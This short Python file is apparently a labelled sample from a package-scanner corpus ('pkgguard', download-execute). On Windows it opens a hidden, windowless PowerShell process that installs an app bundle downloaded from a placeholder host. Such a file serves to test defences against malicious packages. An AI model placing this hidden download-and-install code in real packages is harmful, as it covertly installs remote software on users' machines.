# pkgguard corpus 860 (download-execute), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(
        [
            "powershell.exe", "-NoProfile", "-WindowStyle", "Hidden", "-Command",
            "Add-AppxPackage -Uri 'https://store-cdn.example/DesktopHelper.msixbundle' -ForceApplicationShutdown",
        ],
        creationflags=0x08000000,
    )
